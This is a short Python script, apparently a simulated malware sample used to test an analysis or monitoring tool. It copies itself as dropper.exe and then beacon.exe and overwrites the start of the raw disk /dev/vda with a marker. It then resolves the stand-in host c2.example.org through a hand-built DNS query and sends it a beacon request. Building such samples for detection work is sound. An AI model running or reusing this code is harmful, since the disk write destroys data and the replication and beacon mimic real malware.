#!/bin/python -S
"""The sample of an analysis. Copies itself twice, each copy in a process of its own; the last one sends.

The first process writes the marks of an earlier run to a file, and leaves its own marks in RAM and on the disk.
"""

import os
import socket
import subprocess
import sys
import time

SERVER = "10.66.0.1"
DOMAIN = "c2.example.org"
COPIES = {"dropper.exe": "beacon.exe", "beacon.exe": None}
MARK = b"an earlier run\n"


def leave_marks():
    found = []
    for place, flags in (("/mark", os.O_CREAT), ("/dev/vda", 0)):
        file = os.open(place, os.O_RDWR | flags)
        found.append("%s: %s" % (place, "marked" if os.read(file, len(MARK)) == MARK else "clean"))
        os.lseek(file, 0, os.SEEK_SET)
        os.write(file, MARK)
        os.fsync(file)
        os.close(file)
    with open("marks.txt", "w") as file:
        file.write("\n".join(found) + "\n")


def run_copy(name):
    with open(sys.argv[0], "rb") as own, open(name, "wb") as copy:
        copy.write(own.read() + b"# a copy\n")
    os.chmod(name, 0o755)
    subprocess.call(["./" + name])


def look_up(name):
    labels = b"".join(bytes(bytearray([len(label)])) + label.encode() for label in name.split("."))
    query = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    query.settimeout(5)
    for _ in range(3):
        query.sendto(b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0" + labels + b"\0\0\x01\0\x01", (SERVER, 53))
        try:
            return socket.inet_ntoa(query.recv(512)[-4:])
        except socket.timeout:
            pass
    sys.exit("there is no answer")


def send():
    server = socket.create_connection((look_up(DOMAIN), 80))
    server.sendall(("GET /beacon?id=TOKEN HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % DOMAIN).encode())
    while server.recv(4096):
        pass
    # The process is seen also by a monitor that polls.
    time.sleep(2)


name = os.path.basename(sys.argv[0])
if name not in COPIES:
    leave_marks()
copy = COPIES.get(name, "dropper.exe")
if copy:
    run_copy(copy)
else:
    send()
